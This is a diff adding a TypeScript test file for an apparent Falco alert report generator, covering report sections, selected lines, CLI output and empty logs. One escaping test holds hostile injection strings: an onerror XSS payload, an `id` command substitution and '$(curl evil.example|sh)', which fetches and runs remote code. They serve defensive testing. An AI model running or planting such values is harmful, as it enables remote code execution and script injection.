@@ -1,0 +1,57 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import * as path from 'node:path';
+import { createAlertsService } from '../../server/src/service/alerts';
+import { playbookFor } from '../../server/src/knowledge';
+import * as fs from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { TestHost, fakeRules, fixture, ruleSummaries, hostileProblems, corpusExists, STABLE_RULES, FIXTURES } from '../fixtures/alerts/helpers';
+
+test('the incident report has a summary table, what happened, why it matters, MITRE, investigation, mitigations and tuning', () => {
+  const rules = corpusExists ? ruleSummaries(STABLE_RULES) : [];
+  const s = createAlertsService(new TestHost(), fakeRules(rules));
+  const report = s.report(fixture('falco-0.44.json'), 'file:///logs/events.json');
+  assert.match(report, /^# Falco incident report\n\n3 alerts from `events\.json`, 2024\\-06\\-10 14\\:45\\:13\\\.552380417 UTC to /);
+  assert.match(report, /\| # \| Line \| Time \| Priority \| Rule \| Host \| Source \|/);
+  assert.match(report, /\| 1 \| 1 \| .* \| Critical \| Drop and execute new binary in container \| node\\-a \| syscall \|/);
+  for (const h of ['### What happened', '### Why it matters', '### MITRE ATT&CK', '### Investigation', '### Mitigations', '### Tuning']) assert.ok(report.includes(h), h);
+  // Most severe rule first; fields with their values.
+  assert.ok(report.indexOf('## 1. Drop and execute') < report.indexOf('## 2. Create Symlink'));
+  assert.match(report, /- `evt\.arg\.flags` = `EXE_WRITABLE\|EXE_UPPER_LAYER`/);
+  assert.match(report, /`TA0003`|`mitre_persistence`/);
+  assert.match(report, /falco_lens_proc_name_and_proc_pname/);
+  if (playbookFor('Drop and execute new binary in container')) assert.ok(!report.includes('no playbook for this rule'));
+});
+
+test('a report of a selection covers only the selected lines', () => {
+  const s = createAlertsService(new TestHost(), fakeRules([]));
+  const report = s.report(fixture('falco-0.44.json'), 'file:///logs/events.json', { start: 1, end: 1 });
+  assert.match(report, /^# Falco incident report\n\n1 alert from/);
+  assert.ok(!report.includes('Drop and execute'));
+});
+
+test('a hostile alert renders inert in the report, and its values reach shell commands single-quoted', () => {
+  const rules = corpusExists ? ruleSummaries(STABLE_RULES) : [];
+  const s = createAlertsService(new TestHost(), fakeRules(rules));
+  const report = s.report(fixture('falco-hostile.log'), 'file:///logs/h.log');
+  assert.deepEqual(hostileProblems(report), []);
+  assert.ok(!report.includes('<b>node</b>') || report.includes('\\<b\\>node\\</b\\>'));
+  for (const block of report.match(/```sh\n[\s\S]*?\n```/g) ?? []) {
+    if (block.includes('$(curl')) assert.ok(block.includes("'sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o'"), block);
+  }
+});
+
+const CLI = path.join(process.cwd(), 'dist', 'cli.js');
+
+test('falco-lens report prints the same report as the service', { skip: !fs.existsSync(CLI) && 'dist/cli.js not built' }, () => {
+  const file = path.join(FIXTURES, 'falco-0.44.json');
+  const result = spawnSync(process.execPath, [CLI, 'report', file], { encoding: 'utf8' });
+  assert.equal(result.status, 0, result.stderr);
+  const s = createAlertsService(new TestHost(), fakeRules([]));
+  assert.equal(result.stdout, s.report(fixture('falco-0.44.json'), `file://${file}`));
+});
+
+test('a log with no alerts gives a short report', () => {
+  const s = createAlertsService(new TestHost(), fakeRules([]));
+  assert.equal(s.report('Events detected: 0\n', 'file:///logs/empty.log'), '# Falco incident report\n\nNo Falco alerts found in `empty.log`.\n');
+});
